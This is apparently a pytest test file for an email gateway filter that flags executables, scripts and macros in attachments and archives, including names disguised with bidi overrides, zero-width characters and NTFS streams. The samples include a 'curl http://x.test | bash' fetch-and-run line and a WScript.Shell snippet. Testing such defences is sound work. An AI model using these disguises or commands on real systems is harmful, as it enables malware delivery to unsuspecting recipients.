"""The filter `attachments`: what came out of archives and other readings, and what could not be opened."""

from __future__ import annotations

from dataclasses import replace

import pytest

from filters.attachments.codes import CODES, OF_DEFECTS, UNINSPECTABLE
from filters.attachments.evidence import EVIDENCE_PIECES
from filters.attachments.filter import MAX_TEXTS
from gateway.message.defect import Defect
from gateway.message.edits import ReplacePart
from gateway.message.mime.parse import parse
from gateway.message.model import Message
from gateway.message.part import Part
from tests.support.builders.attachments import (
    PROGRAM,
    TEXT,
    archive,
    check,
    codes,
    judge,
    locked,
    multipart,
    named,
    opened,
)


@pytest.mark.parametrize(
    ("names", "expected"),
    [
        (("evil.exe",), ["attachment.executable"]),
        (("a/b/EVIL.EXE ",), ["attachment.executable"]),
        (("a\\evil.js",), ["attachment.script"]),
        (("a.txt", "b.lnk", "c.exe"), ["attachment.shortcut", "attachment.executable"]),
        (("inv\u202efdp.exe",), ["attachment.executable"]),
        (("evil.e\u200bxe",), ["attachment.executable"]),
        (("evil.exe::$DATA",), ["attachment.executable"]),
        (("evil.{ECF03A32-103D-11D2-854D-006008059367}",), ["attachment.executable"]),
        (("Fine.app/Contents/MacOS/Fine",), ["attachment.executable"]),
        (("Fine.app/",), ["attachment.executable"]),
        (("book.xlsm",), ["attachment.macro"]),
        (("www.example.com/", "www.example.com/index.html"), []),
        (("[Content_Types].xml", "xl/printerSettings/printerSettings1.bin"), []),
        (("a.txt", "dir/"), []),
        ((), []),
    ],
)
async def test_names_of_members(names: tuple[str, ...], expected: list[str]) -> None:
    """Each member's name counts like an attachment's; of folders, only those that are macOS bundles."""
    assert codes(await check(multipart(TEXT, named(b"a.zip", archive(*names))))) == expected


async def test_content_of_members() -> None:
    """A harmless name in an archive doesn't help a program; the evidence says where it is, the edit names the part."""
    inner = archive("photo.jpg", content=PROGRAM)
    (finding,) = await check(multipart(TEXT, named(b"a.zip", archive("inner.zip", content=inner))))
    assert (finding.code, finding.part) == ("attachment.executable", "1.2")
    assert finding.evidence[0].part == "1.2/a.zip/inner.zip/photo.jpg"
    assert "contains" in finding.summary
    (edit,) = finding.edits
    assert isinstance(edit, ReplacePart)
    assert edit.part == "1.2"
    assert "a.zip was removed" in edit.text


async def test_a_thousand_programs_are_one_finding() -> None:
    """One for each code of an attachment and all that is in it, with as much evidence as anyone reads."""
    many = archive(*(f"{n}.exe" for n in range(EVIDENCE_PIECES + 1)))
    (finding,) = await check(multipart(TEXT, named(b"a.zip", many)))
    assert len(finding.evidence) == EVIDENCE_PIECES


async def test_names_of_encrypted_members() -> None:
    """A blocked name that stands in the open holds what is encrypted; any other is only said to be unseen."""
    assert codes(await check(multipart(TEXT, named(b"a.zip", locked(archive("evil.exe")))))) == [
        "attachment.executable",
        "attachment.encrypted",
    ]
    assert codes(await check(multipart(TEXT, named(b"a.zip", locked(archive("pay.pdf")))))) == ["attachment.encrypted"]


@pytest.mark.parametrize(
    ("body", "subject", "told"),
    [
        (b"The password is Summer2024.", b"s", True),
        (b"Hello", b"PIN 4711", True),
        (b"Password: Hammer\r\nRegards", b"s", True),
        (b"Hello", b"Password: hammer", True),
        (b"The password is your date of birth.", b"s", False),
    ],
)
async def test_password_beside_what_it_opens(body: bytes, subject: bytes, told: bool) -> None:
    """Encrypted content is held where the text or the subject gives its password away."""
    text = b"Content-Type: text/plain\r\n\r\n" + body
    found = await check(multipart(text, named(b"a.zip", locked(archive("pay.pdf"))), subject=subject))
    assert codes(found) == ["attachment.encrypted", *(["attachment.password_in_mail"] if told else [])]
    assert codes(await check(multipart(text, named(b"a.zip", archive("pay.pdf")), subject=subject))) == []


@pytest.mark.parametrize(
    ("text", "subject", "what", "part"),
    [
        (b"Hello", b"PIN 4711", "password in the subject", ""),
        (b"PIN 4711", b"s", "password in the text", "1.1"),
    ],
)
async def test_the_evidence_names_where_the_password_stands(text: bytes, subject: bytes, what: str, part: str) -> None:
    """A subject is in no part."""
    body = b"Content-Type: text/plain\r\n\r\n" + text
    found = await check(multipart(body, named(b"a.zip", locked(archive("pay.pdf"))), subject=subject))
    (evidence,) = next(f.evidence for f in found if f.code == "attachment.password_in_mail")
    assert (evidence.what, evidence.quote, evidence.part) == (what, "PIN 4711", part)


@pytest.mark.parametrize(("before", "told"), [(MAX_TEXTS - 2, True), (MAX_TEXTS - 1, False)])
async def test_only_the_first_texts_are_searched(before: int, told: bool) -> None:
    """The subject and the texts that a reader sees first."""
    text = TEXT.replace(b"hello", b"PIN 4711")
    others = [TEXT.replace(b"hello", b"hello %d" % number) for number in range(before)]
    raw = multipart(*others, text, named(b"a.zip", locked(archive("pay.pdf"))))
    assert ("attachment.password_in_mail" in codes(await check(raw))) is told


def with_part(one: Part) -> Message:
    """Return a message in whose second part this one was found."""
    message = parse(multipart(TEXT, named(b"a.dat")))
    first, second = message.root.children
    around = replace(second, unpacked=(one,))
    root = replace(message.root, children=(first, around))
    return Message(message.raw, root, (root, first, around, one))


def unpacked(path: str, content: bytes = b"", true_type: str = "", *defects: Defect) -> Part:
    return Part(
        content, path, (), 0, 0, len(content), "application/octet-stream", "binary", defects, true_type=true_type
    )


@pytest.mark.parametrize("code", [*OF_DEFECTS, "limit.anything"])
async def test_defects_of_the_content(code: str) -> None:
    """An opener's defect has its code, on the part that can be edited; the reviewer reads the defect's sentence."""
    expected = OF_DEFECTS[code][0] if code in OF_DEFECTS else UNINSPECTABLE
    (finding,) = await judge(with_part(unpacked("1.2/a.dat/x", b"", "", Defect(code, "Something is so", 0))))
    assert (finding.code, finding.part) == (expected, "1.2")
    assert (finding.evidence[0].quote, finding.evidence[0].part) == ("Something is so", "1.2/a.dat/x")


@pytest.mark.parametrize("code", ["container.mismatch", "name.bidi", "header.duplicate", "charset.unknown"])
async def test_defects_that_others_speak_of(code: str) -> None:
    """The filter `structure` reports defects in the structure of a message or a container."""
    assert await judge(with_part(unpacked("1.2/a.dat/x", b"", "", Defect(code, "Something is so", 0)))) == []


def test_shipped_actions_of_what_is_not_seen() -> None:
    """Payslips and S/MIME are what the policy asks for: encrypted content is marked, not held."""
    unseen = {"inbound": "tag", "outbound": "log", "internal": "log"}
    assert CODES["attachment.encrypted"][1] == CODES["message.encrypted"][1] == unseen
    assert CODES["attachment.document_script"][1] == "tag"
    held = ("attachment.password_in_mail", "attachment.active_content", "attachment.smuggling", UNINSPECTABLE)
    assert {CODES[code][1] for code in held} == {"quarantine"}


async def test_text_read_otherwise_is_no_attachment_either() -> None:
    """A body that quotes a script is text in every reading; a program in it is one."""
    message = parse(b"Subject: s\r\n\r\nhello")

    def read_as(content: bytes, true_type: str) -> Message:
        reading = unpacked("1/(as base64)", content, true_type)
        root = replace(message.root, unpacked=(reading,))
        return Message(message.raw, root, (root, reading))

    assert await judge(read_as(b"#!/bin/sh\n", "text/x-shellscript")) == []
    assert codes(await judge(read_as(PROGRAM, "application/x-dosexec"))) == ["attachment.executable"]


async def test_parts_behind_the_parsers_limit_are_uninspectable() -> None:
    """A part that the parser did not enter was not examined, and is reported so."""
    deep = TEXT
    for level in range(70):
        head = b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (level, level)
        deep = head + deep + b"\r\n--b%d--" % level
    assert UNINSPECTABLE in codes(await judge(parse(b"MIME-Version: 1.0\r\n" + deep)))


async def test_parts_are_looked_at_in_the_order_of_the_message() -> None:
    """And each keeps its own findings."""
    message = opened(multipart(TEXT, named(b"a.zip", archive("evil.exe")), named(b"b.js")))
    assert [(f.code, f.part) for f in await judge(message)] == [
        ("attachment.executable", "1.2"),
        ("attachment.script", "1.3"),
    ]


JSCRIPT = b'var sh = new ActiveXObject("WScript.Shell");\r\nsh.Run("notepad.exe");\r\n'
README = b"Run this in a shell:\r\n\r\n    curl http://x.test | bash\r\n\r\nand then read on, there is more.\r\n"


@pytest.mark.parametrize("name", [b"invoice", b"invoice.pdf", b"invoice.dat", b"invoice.txt"])
async def test_a_script_whose_name_is_lost(name: bytes) -> None:
    """Its content shows what it is, in an archive too; a text that quotes a command is none."""
    (finding,) = await check(multipart(TEXT, named(name, JSCRIPT)))
    assert (finding.code, finding.evidence[0].what) == ("attachment.script", "true type")
    assert codes(await check(multipart(TEXT, named(b"a.zip", archive(name.decode(), content=JSCRIPT))))) == [
        "attachment.script"
    ]
    assert await check(multipart(TEXT, named(name, README))) == []


async def test_the_messages_own_text_is_no_script() -> None:
    """Whatever it quotes: nobody opens a body as a file."""
    assert await check(multipart(b"Content-Type: text/plain\r\n\r\n" + JSCRIPT)) == []
    assert await check(multipart(TEXT, named(b"a.c", b"int main(void) { return 0; }\r\n"))) == []
